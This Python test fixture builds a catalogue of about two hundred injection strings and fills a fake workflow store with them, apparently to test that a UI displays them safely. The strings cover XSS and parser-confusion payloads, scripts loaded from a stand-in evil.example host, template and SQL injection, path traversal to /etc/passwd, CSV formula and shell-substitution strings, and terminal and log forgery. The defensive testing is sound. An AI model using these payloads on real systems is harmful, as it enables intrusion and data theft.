r"""Two hundred texts that try to become more than text: as markup, script, style, address, statement, path or line.

In each, HIT stands for a piece of script that is noticed when it runs, EVIL for an address elsewhere; the number of the
text tells which one it was. Texts of the same shape that do no harm are there to compare with.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Sequence
from typing import Any

from penstock.store.base import AttemptRow, Batch, EdgeRow, LogRow, RunRow

MARKUP = (
    # Scripts, in all spellings.
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script/x>HIT</script>",
    "<<script>HIT//<</script>",
    "<script src=EVIL></script>",
    "<script src='data:text/javascript,HIT'></script>",
    "<script type=module>HIT</script>",
    "<script>HIT<!--</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<script\n>HIT</script\n>",
    '<script nonce="">HIT</script>',
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    # Handlers of events that need nobody.
    "<img src=x onerror=HIT>",
    "<img/src='x'/onerror=HIT>",
    '<img src="x`" onerror="HIT">',
    "<IMG SRC=x OnErRoR=HIT>",
    "<img src=x onerror\n=\nHIT>",
    "<image src=x onerror=HIT>",
    "<img srcset=EVIL onerror=HIT>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<html onfocusin=HIT autofocus tabindex=1>",
    "<input autofocus onfocus=HIT>",
    "<input type=image src=EVIL onerror=HIT>",
    "<textarea autofocus onfocus=HIT>",
    "<button autofocus onfocus=HIT>x</button>",
    "<details open ontoggle=HIT>x</details>",
    "<video><source onerror=HIT></video>",
    "<video src=EVIL onerror=HIT poster=EVIL></video>",
    "<audio src=x onerror=HIT></audio>",
    "<marquee onstart=HIT>x</marquee>",
    "<object data=EVIL onerror=HIT></object>",
    "<embed src=javascript:HIT>",
    "<iframe src=javascript:HIT></iframe>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe onload=HIT src=about:blank></iframe>",
    "<dialog open onfocus=HIT autofocus>x</dialog>",
    "<x onanimationend=HIT style='animation:x 1s'>x</x>",
    "<p onmouseover=HIT onpointerenter=HIT>here</p>",
    "<x popover onbeforetoggle=HIT id=p><button popovertarget=p autofocus>x</button>",
    "<input type=hidden oncontentvisibilityautostatechange=HIT style=content-visibility:auto>",
    # SVG and MathML, with rules of their own.
    "<svg onload=HIT>",
    "<svg/onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><script href='data:text/javascript,HIT'/></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:HIT'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>HIT</script></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "<svg><style>@import 'EVIL';</style></svg>",
    "<svg><desc><![CDATA[</desc><script>HIT</script>]]></svg>",
    "<math><mtext><img src=x onerror=HIT></mtext></math>",
    "<math href='javascript:HIT'>x</math>",
    # What a parser makes something else of the second time.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=HIT>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>",
    "<template><script>HIT</script></template>",
    "<template shadowrootmode=open><img src=x onerror=HIT></template>",
    "<listing>&lt;img src=x onerror=HIT&gt;</listing>",
    "<xmp><img src=x onerror=HIT></xmp>",
    "<plaintext><img src=x onerror=HIT>",
    "<p><svg><style><img src='</style><img src=x onerror=HIT>'>",
    "<table><td><a href=javascript:HIT><select><x></td></table>",
    # Elements that lead elsewhere, or change where all the others lead.
    "<a href='javascript:HIT' autofocus>here</a>",
    "<a href=EVIL ping=EVIL>here</a>",
    "<base href=EVIL>",
    "<meta http-equiv=refresh content='0;url=EVIL'>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<meta http-equiv=Content-Security-Policy content=script-src*>",
    "<link rel=stylesheet href=EVIL>",
    "<link rel=prefetch href=EVIL><link rel=preconnect href=EVIL>",
    "<link rel=import href=EVIL><link rel=icon href=EVIL>",
    "<form action=EVIL><input name=x><button autofocus>go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:HIT>go</button>",
    "<portal src=EVIL></portal><fencedframe src=EVIL></fencedframe>",
    "<applet code=EVIL></applet><bgsound src=EVIL>",
    "<img id=root name=body><form name=getElementById><input name=children>",
    "<iframe name=token srcdoc=x></iframe><a id=location href=EVIL>",
)

BREAKS = (
    # Out of the element, attribute, string or comment that a text may have been put into.
    "</script><script>HIT</script>",
    "</ScRiPt ><img src=x onerror='HIT'>",
    "</title><script>HIT</script>",
    "</style><script>HIT</script>",
    "</textarea><script>HIT</script>",
    "</pre></code></td></table><script>HIT</script>",
    "</noscript><script>HIT</script>",
    "</template></svg></math><script>HIT</script>",
    "--><script>HIT</script>",
    "--!><script>HIT</script>",
    "<!--<script>HIT",
    "<!--><script>HIT</script>-->",
    "]]><script>HIT</script>",
    "<![CDATA[<script>HIT</script>]]>",
    "<?xml version='1.0'?><?php HIT ?><%= HIT %>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'EVIL'>]>&e;",
    "<!DOCTYPE html><title>HIT</title>",
    '"><script>HIT</script>',
    "'><script>HIT</script>",
    '" onmouseover="HIT" autofocus onfocus="HIT',
    "' onfocus='HIT' autofocus='",
    "` onerror=HIT `",
    'x" style="background:url(EVIL)',
    "'-(HIT)-'",
    '"-(HIT)-"',
    "\\'-(HIT)//",
    '\\"};HIT;//',
    "');HIT;//",
    '"});HIT;({"x":"',
    "`-(HIT)-`",
    "${HIT}",
    "`${HIT}`",
    "*/HIT/*",
    "//\nHIT\n//",
    "first\u2028HIT\u2029third",
    "\u0085HIT\u000b\u000cHIT",
    '{"__html":"<img src=x onerror=HIT>","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=HIT>"}}',
    '{"type":"img","props":{"src":"x","onerror":"HIT"},"key":null,"ref":null,"constructor":null}',
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    # Templates of both sides.
    "{{constructor.constructor('HIT')()}}",
    "{{7*7}}[[7*7]]#{7*7}<%=7*7%>{%raw%}",
    "{{self.__init__.__globals__.__builtins__}}",
    "$style $script $record ${record} %(x)s %s {0} {x.__class__}",
    "<x v-html=HIT :innerHTML=HIT x-init=HIT @load=HIT ng-init=HIT hx-on:load=HIT>",
    "<div data-bind='html: HIT' onclick='HIT' jsaction=HIT>",
)

ADDRESSES = (
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    " javascript:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "\x01javascript:HIT",
    "javascript&colon;HIT",
    "javascript://%0aHIT",
    "data:text/html,<script>HIT</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=HIT>",
    "blob:null/HIT",
    "EVIL",
    "https:EVIL",
    "\\\\evil.example\\share",
    "///evil.example/%2e%2e",
    "http://127.0.0.1@evil.example/",
    "view-source:file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2f%2e%2e%5cetc%00passwd",
    "C:\\Windows\\..\\con.txt::$DATA",
    "/api/runs?limit=1&x=y#token=stolen",
    "?tab=logs&tab=graph&a=b;c=d&&=&%zz",
    "%3Cscript%3EHIT%3C/script%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253DHIT%253E",
    "#token=0123456789abcdef0123456789abcdef",
    "a/b//c/./d/../e/",
    "%E0%A4%A%C0%AF%FF",
)

ENTITIES = (
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "&#x3c;img src=x onerror=HIT&#x3e;",
    "&amp;lt;img src=x onerror=HIT&amp;gt;",
    "&NotEqualTilde;&nbsp;&copy&#0;&#xD800;&#1114112;",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "\u02c2script\u02c3HIT \u2039img\u203a \u3008b\u3009",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\u0130mg \u017fcript \u212a onerror=HIT",
    "expression(HIT) -moz-binding:url(EVIL) behavior:url(EVIL)",
    "x;}*{background:url(EVIL)}@import 'EVIL';",
    "<style>*{display:none}body{background:url(EVIL)}</style>",
    "<p style='position:fixed;inset:0;background:red'>over all</p>",
    "color:red;width:expression(HIT)\\;}</style>",
)

CHARACTERS = (
    "\u202e<script>HIT</script>\u2066\u2069 tfel ot thgir",
    "\u200f\u200e\u061c\u2067mirror\u2069 exe.gnp",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff joined",
    "NUL \x00<script\x00>HIT</script>",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x9b31m C1 \x90 \x9d8;;EVIL\x9c",
    "\x08\x08\x08\x7f backspaces \r over",
    "forged\r\n2026-01-01 00:00:00 CRITICAL all is lost",
    "forged\r\nSet-Cookie: x=1\r\n\r\n<script>HIT</script>",
    'data: {}\n\nevent: document\ndata: {"schema":1}\n\n',
    "\ue000 private \ufdd0 none \U000e0041\U000e0042 tags \U0010ffff",
    "Zalgo e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c" * 3,
    "emoji \U0001f469\u200d\U0001f680 \U0001f1e9\U0001f1ea \u2764\ufe0f",
    "\ufffd \ufffe \uffff non-characters",
    "long <b>" + "a" * 5_000 + "<img src=x onerror=HIT>",
    "many " + "<i>" * 700 + "<script>HIT</script>",
)

NAMES = (
    "__proto__",
    "constructor",
    "prototype.polluted",
    "hasOwnProperty",
    "__defineGetter__",
    '{"__proto__":{"polluted":1}}',
    "__html dangerouslySetInnerHTML innerHTML",
    "null undefined NaN true",
    "'; DROP TABLE runs; --",
    '" OR "1"="1',
    "1 UNION SELECT sql FROM sqlite_master",
    "100%_[a-z]*?\\",
    "x' ESCAPE '\\' OR 1=1",
    "$1 :id @id ?1 %(id)s",
    "load_extension('x') ATTACH PRAGMA",
    "=1+1+cmd|' /C calc'!A0",
    "$(touch /tmp/x) `id` ; & | > <",
    "-rf --help -o/tmp/x",
)

SHAPES = '"\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029'
"""What lines end with, and what a line of a traceback is read by."""

_WRITTEN = (*MARKUP, *BREAKS, *ADDRESSES, *ENTITIES, *CHARACTERS, *NAMES)
TEXTS = tuple(
    text.replace("HIT", f"window.hit={number}").replace("EVIL", f"//evil.example/{number}")
    for number, text in enumerate(_WRITTEN, start=1)
)


def shown(text: str) -> str:
    """As a page shows it: what moves something, or is not seen, by its number."""
    return "".join(char if _is_seen(char) else _number_of(char) for char in text)


def _is_seen(char: str) -> bool:
    return char == " " or unicodedata.category(char)[0] not in "CZ"


def _number_of(char: str) -> str:
    short = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}
    code = ord(char)
    return short.get(char) or (
        f"\\x{code:02x}" if code < 256 else f"\\u{code:04x}" if code < 65536 else f"\\U{code:08x}"
    )


def harmless(number: int) -> str:
    """As long, on as many lines, in as many quotes as the text of that number (counted from 0)."""
    first, *others = (char if char in SHAPES else "x" * len(shown(char)) for char in TEXTS[number])
    return f"n{number:03}{first if first in SHAPES else ''}{''.join(others)}"


# --- stores full of them ----------------------------------------------------------------------------------------------

TAGS = 50  # of one run that are shown
ALL = f"{1:032x}"  # a root run with a task for each text, and all of them among its parameters
OTHERS = tuple(f"{number:032x}" for number in (2, 3, 4))  # root runs with the other tags; the first has subflows
FIELDS = (
    *("name", "run_name", "key", "state_name", "message", "error_type", "error", "result", "version"),
    *("result_key", "result_storage", "position"),
)


def flow_of(number: int) -> str:
    """The id of the root run of which everything is the text of that number."""
    return f"{number + 1000:032x}"


def task_of(number: int) -> str:
    """The id of the task run of which everything is."""
    return f"{number + 2000:032x}"


def rows(texts: Sequence[str]) -> Batch:
    """A store in which each text is in every field that a program can write."""
    batch = Batch.empty()
    for number, root in enumerate((ALL, *OTHERS)):
        some = texts[number * TAGS : (number + 1) * TAGS]
        facts = {**{text: text for text in texts}, "host": some[0], "pid": some[1]}
        known = {"name": "all", "tags": some, "parameters": {text: text for text in texts}, "info": facts}
        batch.runs.append(_row(root, texts[number], root, **known))
    for number, text in enumerate(texts):
        flow, task = flow_of(number), task_of(number)
        before = flow_of(number - 1) if number % 2 else None
        batch.runs.append(_row(flow, text, flow, resumed_from=before))
        batch.runs.append(_row(f"{number + 3000:032x}", text, flow, parent_id=flow, flow_run_id=flow))
        batch.runs.append(_row(task, text, ALL, parent_id=ALL, flow_run_id=ALL))
        batch.attempts.append(AttemptRow(task, 1, 1000.0, 1000.1, text, text, text, _traceback(text)))
        batch.edges.append(EdgeRow(task, task_of(number - number % 2), "data", text))  # short ways: a quick layout
        batch.logs.append(LogRow(task, 1000.0 + number, 10 + 10 * (number % 5), text, text))
    for number, text in enumerate(texts[::20]):
        inner = f"{number + 4000:032x}"
        batch.runs.append(_row(inner, text, OTHERS[0], parent_id=OTHERS[0], flow_run_id=OTHERS[0], kind="flow"))
        batch.runs.append(_row(f"{number + 5000:032x}", text, OTHERS[0], parent_id=inner, flow_run_id=inner))
    return batch


def _row(run_id: str, text: str, root: str, **others: Any) -> RunRow:
    """A flow run without a parent, else a task run that failed at its second attempt."""
    is_root = run_id == root
    facts: dict[str, Any] = {
        **dict.fromkeys(RunRow._fields),
        **dict.fromkeys(FIELDS, text),
        **dict.fromkeys(("created", "ready", "started"), 1000.0),
        **{"id": run_id, "root_id": root, "attempts": 2, "attempt_started": 1000.5, "ended": 1001.0},
        "kind": "flow" if is_root else "task",
        "status": "COMPLETED" if is_root else "FAILED",
        "traceback": _traceback(text),
        **{"tags": [text], "parameters": {text: text, "value": text}, "info": {text: text}},
        **others,
    }
    as_json = {name: json.dumps(facts[name]) for name in ("tags", "parameters", "info")}
    return RunRow(**{**facts, **as_json})


def _traceback(text: str) -> str:
    return f'Traceback (most recent call last):\n  File "{text}", line 3, in {text}\n    {text}\n{text}: {text}\n'
